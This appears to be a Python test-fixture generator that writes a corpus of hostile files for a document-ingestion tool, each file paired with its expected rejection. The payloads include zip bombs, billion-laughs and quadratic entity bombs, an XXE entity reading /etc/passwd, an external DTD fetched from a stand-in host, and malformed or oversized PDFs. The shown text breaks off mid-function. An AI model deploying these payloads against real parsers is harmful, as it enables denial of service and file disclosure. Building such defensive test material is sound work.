"""The hostile corpus: over 200 files built to hurt a reader, each with what must come of it.

`write_corpus(folder)` writes them and returns, per file (path relative to `folder`), an
`Expect`: stored, rejected with a reason matching a pattern, or either (hostile bytes whose
fate depends on a library's recovery, e.g. pypdf rebuilding a broken cross-reference table:
the file must only be accounted for). Every byte is generated here; every text is written
for this project (invented people and places).

Kinds: valid testimonies in seven languages (txt, md, html, docx, pdf, jsonl), zip bombs
disguised as .docx (honest and lying sizes, overlapping entries, nested zips, too many
members), XML entity bombs in .docx parts and in .html/.xhtml (billion laughs, quadratic
blow-up, external and parameter entities), PDFs of millions of objects, with lying page
counts, page-tree cycles, deflate bombs and broken cross-reference tables, invalid and
mixed encodings, NUL bytes, a 200 MB single-line text and other oversized texts, deeply
nested HTML (100,000 levels), binary files named .txt, and trigger words split by
zero-width and bidirectional control characters. Large files are written in repeated
chunks, and zip bombs as repeated deflate blocks, so that the corpus is written in seconds
without holding a bomb in memory.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

MIB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Expect:
    """What must come of one file."""

    outcome: str  # "stored", "rejected" or "either"
    reason: str | None = None  # a regular expression the rejection's reason must match
    finding: str | None = None  # an indicator the stored document must have
    documents: int = 1  # documents a stored .jsonl file holds (its bad lines apart)


STORED = Expect("stored")
EITHER = Expect("either")


def rejected(reason: str) -> Expect:
    return Expect("rejected", reason)


TOO_LARGE = rejected(r"^too large: [\d,]+ bytes, over the limit of [\d,]+ bytes \(--max-file-mb\)$")
TOO_LONG = rejected(r"^[\d,]+ characters, over the limit of [\d,]+ characters \(--max-chars\)$")
PDF_OBJECTS = rejected(r"objects, over the limit of [\d,]+ objects \(--max-pdf-objects\)$")
PDF_PAGES = rejected(r"pages, over the limit of [\d,]+ pages \(--max-pdf-pages\)$")
DOCX_BYTES = rejected(r"^unpacks to [\d,]+ bytes, over the limit of [\d,]+ bytes \(--max-docx-mb\)$")
ZIP_RATIO = rejected(r"\(\d[\d,]*:1\), over the limit of [\d,]+:1 \(--max-zip-ratio\)$")
ZIP_MEMBERS = rejected(r"^[\d,]+ zip members, over the limit of [\d,]+ members \(--max-zip-members\)$")
DOCX_DTD = rejected(r"declares a DTD .*entity-expansion bomb")
HTML_DTD = rejected(r"^declares its own DTD .*entity-expansion bomb")
HTML_DEPTH = rejected(r"levels deep.*over the limit of \d+ levels \(--max-html-depth\)$")
BINARY = rejected(r"^binary content, not text")
NOT_DOCX = rejected(r"^not a readable DOCX")
BAD_PDF = rejected(r"^(not a readable PDF|broken PDF|no text layer)")
TIMEOUT = rejected(r"^analysis stopped after [\d.]+ s, the limit per document \(--doc-timeout\)$")

# --- texts --------------------------------------------------------------------------------

# One short testimony per language, each asserting that identity documents were taken; the
# word that says so is the one the invisible characters are put into.
TESTIMONIES: dict[str, tuple[str, str]] = {
    "en": ("We came from the village of Oltrecampo in spring. The boss kept our passports "
           "in his safe and said we owed him for the journey.", "passports"),
    "nl": ("We kwamen in het voorjaar uit Oltrecampo. De baas hield onze paspoorten in zijn "
           "kluis en zei dat we hem de reis schuldig waren.", "paspoorten"),
    "de": ("Wir kamen im Frühjahr aus Oltrecampo. Der Chef behielt unsere Pässe in seinem "
           "Tresor und sagte, wir schuldeten ihm die Reise.", "Pässe"),
    "fr": ("Nous sommes arrivés d'Oltrecampo au printemps. Le patron a confisqué nos "
           "passeports et disait que nous lui devions le voyage.", "passeports"),
    "es": ("Llegamos de Oltrecampo en primavera. El jefe se quedó con nuestros pasaportes y "
           "decía que le debíamos el viaje.", "pasaportes"),
    "ru": ("Мы приехали из Ольтрекампо весной. Хозяин забрал наши паспорта и говорил, что мы "
           "должны ему за дорогу.", "паспорта"),
    "ko": ("우리는 봄에 올트레캄포에서 왔다. 사장이 우리 여권을 빼앗았고 여비를 갚으라고 "
           "했다.", "여권"),
}
RETENTION = "retention_of_identity_documents"

# Invisible characters a trigger word may hide behind: zero-width space, non-joiner, joiner,
# word joiner, soft hyphen, BOM, the bidi marks, an override, an isolate.
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\ufeff", "\u200e", "\u200f",
             "\u202e", "\u2066", "\u061c")


def account(lang: str, number: int) -> str:
    """The language's testimony, made unique by a number (a text is stored only once)."""
    return f"{TESTIMONIES[lang][0]} ({number})"


def hidden(lang: str, number: int, marks: str) -> str:
    """The testimony with `marks` inserted in the middle of its trigger word."""
    text, word = TESTIMONIES[lang]
    cut = max(1, len(word) // 2)
    return f"{text.replace(word, word[:cut] + marks + word[cut:])} ({number})"


def html_page(title: str, body: str) -> str:
    return (f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>{title}</title>"
            f"</head><body><article><h1>{title}</h1><p>{body}</p></article></body></html>\n")


# --- zip and .docx ------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>')
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    + "]>").replace("&lol0;", "&lol;")
QUADRATIC = '<!DOCTYPE q [<!ENTITY a "' + "a" * 50_000 + '">]>'
XXE = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
PARAMETER = ('<!DOCTYPE p [<!ENTITY % a "<!ENTITY b \'bbbbbbbb\'>"> %a; '
             '<!ENTITY % c SYSTEM "http://unfree.invalid/evil.dtd"> %c;]>')


def document_xml(text: str, doctype: str = "", body: str | None = None) -> str:
    paragraphs = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{_xml(line)}</w:t></w:r></w:p>"
                         for line in text.split("\n"))
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype
            + f'<w:document xmlns:w="{W}"><w:body>{body if body is not None else paragraphs}'
            "</w:body></w:document>")


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@dataclass
class Member:
    """One zip member: its name, and its packed bytes with what they unpack to."""

    name: str
    packed: bytes
    crc: int
    size: int  # unpacked bytes
    method: int = 8  # deflate; 0 stored
    declared_size: int | None = None  # a lie in the headers, when set

    @classmethod
    def of(cls, name: str, data: bytes | str, method: int = 8) -> Member:
        raw = data.encode("utf-8") if isinstance(data, str) else data
        packed = raw if method == 0 else _deflate(raw)
        return cls(name, packed, zlib.crc32(raw), len(raw), method)

    @classmethod
    def repeated(cls, name: str, head: str, chunk: bytes, count: int, tail: str) -> Member:
        """head + chunk * count + tail, deflated without ever holding it unpacked: each
        chunk is one deflate block after a full flush, the same bytes every time."""
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        first = compressor.compress(head.encode()) + compressor.flush(zlib.Z_FULL_FLUSH)
        block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
        last = compressor.compress(tail.encode()) + compressor.flush()
        crc = crc32_combine(zlib.crc32(head.encode()), _crc32_repeated(chunk, count),
                            len(chunk) * count)
        crc = crc32_combine(crc, zlib.crc32(tail.encode()), len(tail.encode()))
        size = len(head.encode()) + len(chunk) * count + len(tail.encode())
        return cls(name, first + block * count + last, crc, size)


def _gf2_times(matrix: list[int], vector: int) -> int:
    total = 0
    row = 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """The CRC-32 of A + B from those of A and B and B's length (zlib's crc32_combine,
    which Python does not expose): a gigabyte's CRC without reading a gigabyte."""
    if length2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if length2 & 1:
            crc1 = _gf2_times(even, crc1)
        length2 >>= 1
        if not length2:
            break
        odd = _gf2_square(even)
        if length2 & 1:
            crc1 = _gf2_times(odd, crc1)
        length2 >>= 1
        if not length2:
            break
    return crc1 ^ crc2


def _crc32_repeated(chunk: bytes, count: int) -> int:
    """CRC-32 of `chunk * count`, by doubling."""
    result, power, power_length = 0, zlib.crc32(chunk), len(chunk)
    while count:
        if count & 1:
            result = crc32_combine(result, power, power_length)
        count >>= 1
        if count:
            power = crc32_combine(power, power, power_length)
            power_length *= 2
    return result


def _deflate(raw: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(raw) + compressor.flush()


def zip_bytes(members: Iterable[Member], *, overlap: int = 0) -> bytes:
    """A zip of `members`, written by hand so that sizes may lie; with `overlap`, that many
    extra directory entries all point at the last member's packed bytes (the overlapping
    zip bomb: one packed copy, unpacked once per entry)."""
    out = io.BytesIO()
    directory = io.BytesIO()
    entries = 0
    last: tuple[Member, int] | None = None
    for member in members:
        offset = out.tell()
        name = member.name.encode("utf-8")
        size = member.size if member.declared_size is None else member.declared_size
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, member.method, 0, 0x21,
                              member.crc, len(member.packed), size, len(name), 0))
        out.write(name)
        out.write(member.packed)
        directory.write(_central(member, name, size, offset))
        entries += 1
        last = (member, offset)
    if overlap and last is not None:
        member, offset = last
        size = member.size if member.declared_size is None else member.declared_size
        for i in range(overlap):
            # Python's zipfile would refuse to open such a member (its name differs from the
            # local header's); the sizes in the directory are what a reader must not trust.
            directory.write(_central(member, f"word/media/copy{i}.bin".encode(), size, offset))
            entries += 1
    start = out.tell()
    central = directory.getvalue()
    out.write(central)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(entries, 0xFFFF),
                          min(entries, 0xFFFF), len(central), start, 0))
    return out.getvalue()


def _central(member: Member, name: bytes, size: int, offset: int) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, member.method, 0,
                       0x21, member.crc, len(member.packed), size, len(name), 0, 0, 0, 0, 0,
                       offset) + name


def docx(text: str, *, doctype: str = "", extra: Iterable[Member] = (),
         content_types: str = CONTENT_TYPES, rels: str = RELS,
         document: Member | None = None, overlap: int = 0) -> bytes:
    parts = [Member.of("[Content_Types].xml", content_types), Member.of("_rels/.rels", rels),
             document or Member.of("word/document.xml", document_xml(text, doctype)),
             *extra]
    return zip_bytes(parts, overlap=overlap)


# --- PDF ----------------------------------------------------------------------------------


def pdf_objects(text: str) -> list[bytes]:
    """Catalog, page tree, one page, a font and a content stream showing `text` (ASCII)."""
    stream = b"BT /F1 11 Tf 56 760 Td 14 TL " + b" ".join(
        b"(" + line.encode("ascii").replace(b"(", b"\\(").replace(b")", b"\\)") + b") '"
        for line in _wrap(text, 80)) + b" ET"
    return [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream"]


def _wrap(text: str, width: int) -> list[str]:
    lines: list[str] = []
    line = ""
    for word in text.split():
        if line and len(line) + 1 + len(word) > width:
            lines.append(line)
            line = word
        else:
            line = f"{line} {word}".strip()
    return [*lines, line]


def write_pdf(path: Path, objects: list[bytes], *, tiny_objects: int = 0, xref: bool = True,
              xref_claim: int | None = None, shift_offsets: int = 0, size: int | None = None,
              startxref: int | None = None, tail: bytes = b"") -> None:
    """A PDF of `objects` (numbered from 1) and `tiny_objects` more "N 0 obj N endobj",
    written straight to `path` in chunks; the cross-reference table may be left out, claim
    more entries than it has, or point at wrong offsets."""
    offsets: list[int] = []
    with path.open("wb") as out:
        out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
        for number, body in enumerate(objects, 1):
            offsets.append(out.tell())
            out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
        position = out.tell()
        first = len(objects) + 1
        for start in range(0, tiny_objects, 100_000):
            chunk = []
            for number in range(first + start, first + min(start + 100_000, tiny_objects)):
                piece = b"%d 0 obj %d endobj\n" % (number, number)
                offsets.append(position)
                position += len(piece)
                chunk.append(piece)
            out.write(b"".join(chunk))
        xref_at = out.tell()
        entries = len(offsets) + 1
        if xref:
            out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (xref_claim or entries))
            for start in range(0, len(offsets), 100_000):
                out.write(b"".join(b"%010d 00000 n \n" % (o + shift_offsets)
                                   for o in offsets[start:start + 100_000]))
        out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n%s" % (
            size or xref_claim or entries, xref_at if startxref is None else startxref, tail))


def page_tree(kids: int, count: int | None = None, *, text: str = "") -> list[bytes]:
    """Catalog, one /Pages node with `kids` page leaves (a /Count of `count`), pages empty
    but the first, which shows `text`."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % (i + 5) for i in range(kids))
               + b"] /Count %d >>" % (kids if count is None else count)]
    base = pdf_objects(text or "Nothing else was written on these pages.")
    objects += [base[3], base[4]]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << "
                b"/F1 3 0 R >> >> /Contents 4 0 R >>"] * kids
    return objects


# --- the corpus ---------------------------------------------------------------------------


def write_corpus(folder: Path, *, big_text_mb: int = 200) -> dict[str, Expect]:
    """Write the hostile corpus into `folder`; per relative path, what must come of it."""
    corpus = _Corpus(folder)
    _valid(corpus)
    _hidden_triggers(corpus)
    _zip_bombs(corpus)
    _entity_bombs(corpus)
    _pdfs(corpus)
    _encodings(corpus)
    _nul_bytes(corpus)
    _oversized(corpus, big_text_mb)
    _deep_html(corpus)
    _binary(corpus)
    _misc(corpus)
    return corpus.expected


class _Corpus:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.expected: dict[str, Expect] = {}
        self.number = 0

    def next(self) -> int:
        self.number += 1
        return self.number

    def path(self, name: str, expect: Expect) -> Path:
        assert name not in self.expected, name
        self.expected[name] = expect
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        return path

    def write(self, name: str, data: bytes | str, expect: Expect) -> None:
        raw = data.encode("utf-8") if isinstance(data, str) else data
        self.path(name, expect).write_bytes(raw)

    def stream(self, name: str, expect: Expect, write: Callable[[io.BufferedWriter], None]
               ) -> None:
        with self.path(name, expect).open("wb") as out:
            write(out)


def _valid(c: _Corpus) -> None:
    for lang in TESTIMONIES:
        found = Expect("stored", finding=RETENTION)
        c.write(f"valid/{lang}.txt", account(lang, c.next()), found)
        c.write(f"valid/{lang}.md", f"# {lang}\n\n{account(lang, c.next())}\n", found)
        c.write(f"valid/{lang}.html", html_page(f"Account {lang}", account(lang, c.next())),
                found)
        c.write(f"valid/{lang}.docx", docx(account(lang, c.next())), found)
    for lang in ("en", "es"):
        # The PDF font is Helvetica with its standard encoding: ASCII text only.
        text = account(lang, c.next()).encode("ascii", "ignore").decode()
        path = c.path(f"valid/{lang}.pdf", STORED)
        write_pdf(path, pdf_objects(text))
    c.write("valid/utf16.txt", account("fr", c.next()).encode("utf-16"), STORED)
    c.write("valid/crlf.txt", account("de", c.next()).replace(". ", ".\r\n"), STORED)
    c.write("valid/deep-but-fine.html",
            "<html><body>" + "<div>" * 200 + account("nl", c.next()) + "</div>" * 200
            + "</body></html>", STORED)
    for number in range(2):
        rows = [{"id": f"r{i}", "text": account(lang, c.next()), "lang": lang}
                for i, lang in enumerate(("en", "ru", "ko"))]
        c.write(f"valid/records{number}.jsonl",
                "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows),
                Expect("stored", documents=3))
    # A docx whose embedded zip holds a gigabyte: python-docx never opens embeddings.
    inner = zip_bytes([Member.repeated("bomb.txt", "", b"\0" * MIB, 1024, "")])
    c.write("valid/nested-zip.docx",
            docx(account("en", c.next()), extra=[Member.of("word/embeddings/x.zip", inner, 0)]),
            Expect("stored", finding=RETENTION))


def _hidden_triggers(c: _Corpus) -> None:
    """Trigger words split by invisible characters: read as the word a reader sees."""
    found = Expect("stored", finding=RETENTION)
    for lang in TESTIMONIES:
        for i, mark in enumerate(INVISIBLE):
            kind = ("txt", "md", "html")[i % 3]
            text = hidden(lang, c.next(), mark)
            data = html_page("Account", text) if kind == "html" else text
            c.write(f"hidden/{lang}-{i}.{kind}", data, found)
    # Several marks at once, a right-to-left override with its pop, and the same in a .docx.
    c.write("hidden/en-many.txt", hidden("en", c.next(), "\u200b\u202e\u2066\u2069\u202c\u00ad"),
            found)
    c.write("hidden/de-docx.docx", docx(hidden("de", c.next(), "\u200d\u00ad")), found)
    c.write("hidden/ko-docx.docx", docx(hidden("ko", c.next(), "\u200b")), found)
    # In JSON Lines the text is kept exactly as given (offsets index it): stored, marks kept.
    c.write("hidden/records.jsonl", json.dumps(
        {"id": "zw", "text": hidden("en", c.next(), "\u200b"), "lang": "en"}) + "\n", STORED)


def _zip_bombs(c: _Corpus) -> None:
    text = account("en", c.next())
    w = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>'
    end = "</w:t></w:r></w:p></w:body></w:document>"
    for gib in (1, 2, 3):
        # An XML part that unpacks to gigabytes of spaces: over the unpacked-size limit.
        bomb = Member.repeated("word/document.xml", w, b" " * MIB, 1024 * gib, end)
        c.write(f"zipbomb/document-{gib}g.docx", docx(text, document=bomb), DOCX_BYTES)
    for mib in (20, 50, 90):
        # Under the unpacked-size limit, but packed a thousand to one: the ratio limit.
        bomb = Member.repeated("word/document.xml", w, b" " * MIB, mib, end)
        c.write(f"zipbomb/ratio-{mib}m.docx", docx(text, document=bomb), ZIP_RATIO)
    for name in ("word/media/image1.png", "docProps/core.xml", "word/styles.xml"):
        extra = Member.repeated(name, "", b"\0" * MIB, 2048, "")
        c.write(f"zipbomb/member-{name.rsplit('/', 1)[-1]}.docx", docx(text, extra=[extra]),
                DOCX_BYTES)
    content = Member.repeated("[Content_Types].xml", "", b" " * MIB, 30, "")
    c.write("zipbomb/content-types.docx", zip_bytes([
        content, Member.of("_rels/.rels", RELS),
        Member.of("word/document.xml", document_xml(text))]), ZIP_RATIO)
    for copies in (200, 5000):
        # Overlapping entries: one packed megabyte, listed again and again.
        shared = Member.repeated("word/media/shared.bin", "", b"\0" * MIB, 1, "")
        c.write(f"zipbomb/overlap-{copies}.docx", docx(text, extra=[shared], overlap=copies),
                DOCX_BYTES)
    for declared in (1000, 100):
        # Sizes that lie low: zipfile stops at the declared size and finds the CRC wrong.
        lying = Member.repeated("word/document.xml", w, b" " * MIB, 64, end)
        lying.declared_size = declared
        c.write(f"zipbomb/lying-{declared}.docx", docx(text, document=lying), NOT_DOCX)
    for members in (20_000, 60_000):
        many = [Member.of(f"word/media/m{i}.bin", b"", 0) for i in range(members)]
        c.write(f"zipbomb/members-{members}.docx", docx(text, extra=many), ZIP_MEMBERS)
    good = docx(account("en", c.next()))
    c.write("zipbomb/truncated.docx", good[: len(good) // 2], NOT_DOCX)
    c.write("zipbomb/not-a-zip.docx", "This is plain text named as a Word file.", NOT_DOCX)


def _entity_bombs(c: _Corpus) -> None:
    text = account("en", c.next())
    for name, doctype in (("billion-laughs", BILLION_LAUGHS), ("quadratic", QUADRATIC),
                          ("xxe", XXE), ("parameter", PARAMETER),
                          ("plain-doctype", "<!DOCTYPE w:document>")):
        body = "<w:p><w:r><w:t>" + {"billion-laughs": "&lol9;", "quadratic": "&a;" * 2000,
                                     "xxe": "&secret;"}.get(name, "x") + "</w:t></w:r></w:p>"
        c.write(f"entities/document-{name}.docx",
                docx(text, document=Member.of("word/document.xml",
                                              document_xml(text, doctype, body))), DOCX_DTD)
    types = CONTENT_TYPES.replace("?>\n", "?>\n" + BILLION_LAUGHS, 1)
    c.write("entities/content-types.docx", docx(text, content_types=types), DOCX_DTD)
    rels = RELS.replace("?>\n", "?>\n" + XXE, 1)
    c.write("entities/rels.docx", docx(text, rels=rels), DOCX_DTD)
    core = ('<?xml version="1.0"?>' + BILLION_LAUGHS + '<cp:coreProperties xmlns:cp="http://'
            'schemas.openxmlformats.org/package/2006/metadata/core-properties"/>')
    c.write("entities/core.docx", docx(text, extra=[Member.of("docProps/core.xml", core)]),
            DOCX_DTD)
    utf16 = document_xml(text, BILLION_LAUGHS).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    c.write("entities/utf16.docx", docx(text, document=Member.of(
        "word/document.xml", "\ufeff".encode("utf-16-le") + utf16.encode("utf-16-le"))),
        DOCX_DTD)
    page = f"<html><body><p>{account('en', c.next())} &lol9;</p></body></html>"
    for name, doctype in (("billion-laughs", BILLION_LAUGHS), ("quadratic", QUADRATIC),
                          ("xxe", XXE), ("parameter", PARAMETER)):
        for ext in ("html", "xhtml"):
            c.write(f"entities/{name}.{ext}", f'<?xml version="1.0"?>\n{doctype}\n{page}',
                    HTML_DTD)
    c.write("entities/comment-first.html", f"<!-- hello -->\n{BILLION_LAUGHS}\n{page}", HTML_DTD)
    c.write("entities/utf16.xhtml", f"{BILLION_LAUGHS}\n{page}".encode("utf-16"), HTML_DTD)


def _pdfs(c: _Corpus) -> None:
    # A text of its own for each file: a second copy of a text would be skipped as stored.
    def text() -> str:
        return account("en", c.next()).encode("ascii", "ignore").decode()

    # Millions of tiny objects: 1,000,000 with a cross-reference table is 47 MiB, just under
    # the size limit; without a table 1,700,000 fit.
    write_pdf(c.path("pdf/objects-1000000.pdf", PDF_OBJECTS), pdf_objects(text()),
              tiny_objects=1_000_000)
    write_pdf(c.path("pdf/objects-no-xref.pdf", PDF_OBJECTS), pdf_objects(text()),
              tiny_objects=1_700_000, xref=False)
    write_pdf(c.path("pdf/objects-bad-offsets.pdf", PDF_OBJECTS), pdf_objects(text()),
              tiny_objects=800_000, shift_offsets=7)
    for claim in (5_000_000, 2**31 - 1):
        write_pdf(c.path(f"pdf/xref-claims-{claim}.pdf", EITHER), pdf_objects(text()),
                  xref_claim=claim)
    write_pdf(c.path("pdf/trailer-size-huge.pdf", EITHER), pdf_objects(text()), size=10**9)
    # Broken cross-reference tables: wrong offsets, no table, pointers past the end, a table
    # cut short, no end marker. pypdf may rebuild the table (and read the text) or give up.
    for shift in (3, -9, 1000):
        write_pdf(c.path(f"pdf/xref-shift{shift}.pdf", EITHER), pdf_objects(text()),
                  shift_offsets=shift)
    write_pdf(c.path("pdf/no-xref.pdf", EITHER), pdf_objects(text()), xref=False)
    write_pdf(c.path("pdf/startxref-past-end.pdf", EITHER), pdf_objects(text()),
              startxref=10**12)
    write_pdf(c.path("pdf/startxref-zero.pdf", EITHER), pdf_objects(text()), startxref=0)
    path = c.path("pdf/xref-cut.pdf", EITHER)
    write_pdf(path, pdf_objects(text()))
    data = path.read_bytes()
    path.write_bytes(data[: data.index(b"xref") + 40])
    path = c.path("pdf/xref-prev-loop.pdf", EITHER)
    write_pdf(path, pdf_objects(text()))
    data = path.read_bytes()
    at = data.index(b"xref")
    path.write_bytes(data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at))
    c.write("pdf/header-only.pdf", b"%PDF-1.7\n", BAD_PDF)
    c.write("pdf/garbage.pdf", bytes(random.Random(7).randrange(256) for _ in range(20_000)),
            BAD_PDF)
    # Page counts: a /Count that lies high, one that lies low, real pages over the limit.
    write_pdf(c.path("pdf/count-12m.pdf", PDF_PAGES), page_tree(1, 12_000_000, text=text()))
    write_pdf(c.path("pdf/count-lies-low.pdf", PDF_PAGES), page_tree(3_000, 1, text=text()))
    write_pdf(c.path("pdf/pages-2500.pdf", PDF_PAGES), page_tree(2_500, text=text()))
    # A page tree that contains itself, and one 5,000 levels deep.
    cyclic = pdf_objects(text())
    cyclic[1] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"
    write_pdf(c.path("pdf/page-tree-cycle.pdf", EITHER), cyclic)
    deep = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    deep += [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (i + 3) for i in range(5_000)]
    deep += [b"<< /Type /Page /MediaBox [0 0 595 842] >>"]
    write_pdf(c.path("pdf/page-tree-deep.pdf", BAD_PDF), deep)
    # A content stream that inflates to a gigabyte of spaces.
    bomb = Member.repeated("-", "BT /F1 11 Tf 56 760 Td (x) Tj ", b" " * MIB, 1024, " ET")
    objects = pdf_objects(text())
    objects[4] = (b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % (len(bomb.packed) + 2)
                  + b"\x78\x9c" + bomb.packed + b"\nendstream")
    write_pdf(c.path("pdf/deflate-bomb.pdf", EITHER), objects)
    # Half a million text operators on one page.
    ops = b"BT /F1 11 Tf 56 760 Td " + b"(a) Tj " * 500_000 + b"ET"
    objects = pdf_objects(text())
    objects[4] = b"<< /Length %d >>\nstream\n" % len(ops) + ops + b"\nendstream"
    write_pdf(c.path("pdf/many-operators.pdf", EITHER), objects)
    c.write("pdf/html-named-pdf.pdf", html_page("Not a PDF", text()), BAD_PDF)


def _encodings(c: _Corpus) -> None:
    en = account("en", c.next()).encode()
    c.write("encoding/invalid-utf8-bytes.txt", en.replace(b" ", b" \xff", 3), STORED)
    c.write("encoding/truncated-multibyte.txt", account("fr", c.next()).encode() + b"\xc3",
            STORED)
    c.write("encoding/overlong.txt", en[:40] + b"\xc0\xaf\xe0\x80\xaf" + en[40:], STORED)
    c.write("encoding/cesu-surrogates.txt", en[:40] + b"\xed\xa0\x80\xed\xb0\x80" + en[40:],
            STORED)
    c.write("encoding/mixed-utf8-cp1252.txt", account("fr", c.next()).encode() + b"\n"
            + account("fr", c.next()).encode("cp1252") + b"\n", STORED)
    c.write("encoding/mixed-utf8-cp1251.txt", account("ru", c.next()).encode() + b"\n"
            + account("ru", c.next()).encode("cp1251") + b"\n", EITHER)
    c.write("encoding/cp1251.txt", account("ru", c.next()).encode("cp1251"), STORED)
    c.write("encoding/cp949.txt", account("ko", c.next()).encode("cp949"), STORED)
    c.write("encoding/latin1.md", account("es", c.next()).encode("latin-1"), STORED)
    c.write("encoding/utf16le-no-bom.txt", account("de", c.next()).encode("utf-16-le"), STORED)
    c.write("encoding/utf16be-no-bom.txt", account("nl", c.next()).encode("utf-16-be"), STORED)
    c.write("encoding/utf32.txt", account("es", c.next()).encode("utf-32"), STORED)
    c.write("encoding/utf16-odd-length.txt", account("en", c.next()).encode("utf-16")[:-1],
            EITHER)
    c.write("encoding/utf8-bom-then-utf16.txt",
            b"\xef\xbb\xbf" + account("en", c.next()).encode("utf-16-le"), EITHER)
    c.write("encoding/bom-lies-utf32.txt",
            b"\xff\xfe\x00\x00" + account("en", c.next()).encode(), EITHER)
    c.write("encoding/meta-charset-lies.html", html_page(
        "Cuenta", account("es", c.next())).encode("cp1252"), STORED)
    c.write("encoding/meta-unknown-charset.html", html_page(
        "Account", account("en", c.next())).replace("utf-8", "x-klingon"), STORED)
    c.write("encoding/shift-jis-junk.txt", "日本語のテキストです。" .encode("shift_jis") * 20,
            EITHER)
    c.write("encoding/mojibake.txt", account("fr", c.next()).encode().decode("cp1252"),
            STORED)
    c.write("encoding/every-byte.txt", bytes(range(32, 256)) * 50, EITHER)
    c.write("encoding/invalid.jsonl", b'{"id": "a", "text": "caf\xe9 workers"}\n',
            rejected(r"not UTF-8"))


def _nul_bytes(c: _Corpus) -> None:
    text = account("en", c.next()).encode()
    c.write("nul/one-stray.txt", text.replace(b". ", b".\x00 ", 1), STORED)
    c.write("nul/inside-trigger.txt", hidden("en", c.next(), "\0").encode(),
            Expect("stored", finding=RETENTION))
    c.write("nul/every-tenth.txt", b"".join(text[i:i + 10] + b"\0"
                                            for i in range(0, len(text), 10)), BINARY)
    c.write("nul/trailing-megabyte.txt", text + b"\0" * MIB, BINARY)
    c.write("nul/only-nuls.txt", b"\0" * 4096, BINARY)
    c.write("nul/leading.md", b"\0\0\0\0" + text, EITHER)
    c.write("nul/in-html.html", html_page("x", account("en", c.next())).encode()
            .replace(b"<p>", b"<p>\0", 1), STORED)
    c.write("nul/escaped-in-jsonl.jsonl", json.dumps(
        {"id": "n", "text": account("en", c.next()).replace(" ", "\u0000 ", 1)}) + "\n",
        STORED)
    c.write("nul/raw-in-jsonl.jsonl", b'{"id": "n", "text": "a\x00b"}\n',
            rejected(r"invalid JSON"))
    c.write("nul/utf16-looks-like-nuls.md", account("nl", c.next()).encode("utf-16-le"),
            STORED)


def _oversized(c: _Corpus, big_text_mb: int) -> None:
    line = b"We worked and worked and worked " * 32  # 1 KiB, no line break, no full stop

    def big(out: io.BufferedWriter) -> None:
        chunk = line * 1024
        for _ in range(big_text_mb):
            out.write(chunk)

